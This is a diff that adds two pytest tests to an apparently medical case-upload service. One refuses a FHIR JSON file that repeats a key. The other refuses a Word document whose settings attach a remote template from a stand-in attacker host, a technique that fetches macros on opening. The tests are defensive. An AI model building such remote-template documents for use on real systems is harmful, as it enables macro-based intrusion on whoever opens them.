@@ -202,3 +202,44 @@ def test_a_lab_message_is_read_in_a_child_at_upload_and_refused_with_its_readers
     good = cut + b'ue="Potassium"/></code></Observation>'
     created = services.create_case(FORM, [Upload("potassium.xml", good, "lab")])
     assert [f.file_name for f in created.files] == ["potassium.xml"]
+
+
+def test_a_fhir_json_that_repeats_a_key_is_refused_at_upload_naming_it(
+    harness: LocalHarness, signed_in: SignedIn
+) -> None:
+    """left16: HL7's example Observation with its glucose's "value" twice (6.3, then 63):
+    which one counts is the parser's choice. Refused at upload, the key named, nothing kept."""
+    real = (
+        Path(__file__).resolve().parents[1] / "structured" / "fhir_f001_glucose.json"
+    ).read_text()
+    twice = real.replace('"value": 6.3,', '"value": 6.3,\n    "value": 63,').encode()
+    reading = IsolatedReading(ReadingLimits(seconds=60))
+    services = case_service(signed_in.doctor, signed_in.backend, reading=reading)
+    with pytest.raises(InvalidInput) as refused:
+        services.create_case(FORM, [Upload("glucose.json", twice, "lab")])
+    assert refused.value.detail == (
+        "'glucose.json' is not a valid FHIR JSON resource: the file repeats the key 'value' "
+        "in one object"
+    )
+    assert services.list_cases() == []
+    assert harness.stored_keys() == set()
+
+
+def test_a_docx_with_a_remote_template_is_refused_at_upload_in_the_child(
+    harness: LocalHarness, signed_in: SignedIn
+) -> None:
+    """left16: a DOCX whose settings attach a template from another address (Word fetches
+    it on opening, macros and all) is refused when the header check reads it, in a child."""
+    from core.docx_parts import EXTERNAL
+
+    content = samples.docx_with_parts(
+        added=samples.docx_settings_linking("attachedTemplate", "https://attacker.example/t.dotm")
+    )
+    services = case_service(
+        signed_in.doctor, signed_in.backend, reading=IsolatedReading(ReadingLimits(seconds=60))
+    )
+    with pytest.raises(InvalidInput) as refused:
+        services.create_case(FORM, [Upload("report.docx", content, "lab")])
+    assert refused.value.detail == f"'report.docx' is not a valid Word document: {EXTERNAL}"
+    assert services.list_cases() == []
+    assert harness.stored_keys() == set()
